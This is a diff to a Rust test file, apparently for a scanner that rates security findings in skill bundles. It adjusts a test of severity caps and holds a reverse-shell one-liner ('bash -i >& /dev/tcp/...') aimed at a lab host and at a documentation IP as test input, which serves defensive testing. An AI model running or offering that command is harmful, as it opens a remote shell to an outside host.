@@ -62,6 +62,7 @@ mod round21;
 mod round22;
 mod round23;
 mod round24;
+mod round25;
 mod round26;
 mod scopes;
 mod secrets;
@@ -211,13 +212,18 @@ fn fact_extractors_state_kind_and_capture() {
 
 #[test]
 fn security_teaching_documentation_is_capped() {
-    let skill = "---\nname: pentest-lab\ndescription: Notes for an authorized penetration test lab.\n---\n```\nbash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n```\n";
+    // A fenced example aimed at a concrete outside address: capped at high.
+    let skill = "---\nname: pentest-lab\ndescription: Notes for an authorized penetration test lab.\n---\n```\nbash -i >& /dev/tcp/lab-relay.pentest-notes.net/4444 0>&1\n```\n";
     let f = findings(&bundle(&[("SKILL.md", skill)]));
     assert!(f.iter().all(|x| x.severity <= High), "{f:#?}");
     assert!(
         f.iter()
             .any(|x| x.severity == High && x.category == "network")
     );
+    // Aimed at a documentation address, in a bundle with no script: an example (round 25).
+    let doc_ip = skill.replace("lab-relay.pentest-notes.net", "192.0.2.10");
+    let f = findings(&bundle(&[("SKILL.md", &doc_ip)]));
+    assert!(f.iter().all(|x| x.severity <= Medium), "{f:#?}");
     // The same line in a script of the same skill is not capped.
     let f = findings(&bundle(&[
         ("SKILL.md", skill),
